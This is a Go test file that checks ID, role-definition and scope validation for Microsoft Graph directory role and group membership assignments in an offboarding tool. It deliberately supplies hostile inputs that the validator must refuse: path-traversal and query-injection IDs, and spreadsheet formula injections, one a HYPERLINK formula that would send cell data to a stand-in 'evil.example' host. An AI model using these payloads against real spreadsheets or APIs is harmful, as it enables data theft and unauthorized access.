package graph

import (
	"testing"

	"github.com/offboard/offboard/job"
)

func TestCheckID(t *testing.T) {
	const (
		group = "8f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
		role  = "62e90394-69f5-4237-9190-012177145e10"
	)
	tests := []struct {
		src job.IDChecker
		id  string
		ok  bool
	}{
		{DirectoryRoles{}, "lAPpYvVpN0KRkAEhdxReEJC2sEqbR_9Hr48lds9SGHI-1", true},
		{DirectoryRoles{}, "-lAPpYvVpN0KRkAEhdxReE", true},
		{DirectoryRoles{}, group, true},
		{Eligibilities{}, "a1b2c3_d-4", true},
		{Memberships{}, group, true},
		{Memberships{}, group + "/owner", true},
		{Memberships{}, group + "/eligible-member", true},
		{Memberships{}, group + "/active-owner", true},
		{DirectoryRoles{}, "..", false},
		{DirectoryRoles{}, ".", false},
		{DirectoryRoles{}, "", false},
		{DirectoryRoles{}, "x/../../users/y", false},
		{DirectoryRoles{}, "x?$filter=1", false},
		{DirectoryRoles{}, "x%2F..", false},
		{DirectoryRoles{}, "x y", false},
		{Eligibilities{}, "..", false},
		{Memberships{}, "..", false},
		{Memberships{}, "lAPpYvVpN0KRkAEhdxReEJC2sEqbR_9Hr48lds9SGHI-1", false},
		{Memberships{}, group + "/members", false},
		{Memberships{}, group + "/owner/..", false},
		{Memberships{}, "../owner", false},
	}
	for _, tt := range tests {
		const principal = "0b01a6fe-d448-44d7-85ca-75ea712f3c51"
		a := job.Assignment{ID: tt.id, PrincipalID: principal}
		if _, ok := tt.src.(Memberships); !ok {
			a.RoleDefinitionID, a.Scope = role, "/"
		}
		if err := tt.src.CheckID(a); (err == nil) != tt.ok {
			t.Errorf("%T.CheckID(%q) = %v, want ok %v", tt.src, tt.id, err, tt.ok)
		}
	}
}

// TestCheckRoleIDs: a directory role assignment's or eligibility's role
// definition id is a GUID and its scope one Graph documents ("/",
// "/administrativeUnits/{id}", "/{id}"); a formula in either is refused
// with the row (issue 24, item 10).
func TestCheckRoleIDs(t *testing.T) {
	const (
		id   = "lAPpYvVpN0KRkAEhdxReEJC2sEqbR_9Hr48lds9SGHI-1"
		role = "62e90394-69f5-4237-9190-012177145e10"
		au   = "/administrativeUnits/0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
		app  = "/0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f"
	)
	tests := []struct {
		role, scope string
		ok          bool
	}{
		{role, "/", true},
		{role, au, true},
		{role, "/AdministrativeUnits/0F2C7D6E-1B4A-4C3E-9D8F-1A2B3C4D5E6F", true},
		{role, app, true},
		{`=HYPERLINK("http://evil.example/?"&A2,"Global Administrator")`, "/", false},
		{role, "=1+2", false},
		{"", "/", false},
		{role, "", false},
		{"Global Administrator", "/", false},
		{role + "/..", "/", false},
		{role, "/administrativeUnits/x", false},
		{role, "/administrativeUnits/", false},
		{role, au + "/..", false},
		{role, "//", false},
		{role, "/users/0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", false},
		{role, "@SUM(1+1)", false},
	}
	for _, src := range []job.IDChecker{DirectoryRoles{}, Eligibilities{}} {
		for _, tt := range tests {
			err := src.CheckID(job.Assignment{ID: id, RoleDefinitionID: tt.role, Scope: tt.scope})
			if (err == nil) != tt.ok {
				t.Errorf("%T.CheckID(role %q, scope %q) = %v, want ok %v", src, tt.role, tt.scope, err, tt.ok)
			}
		}
	}
}
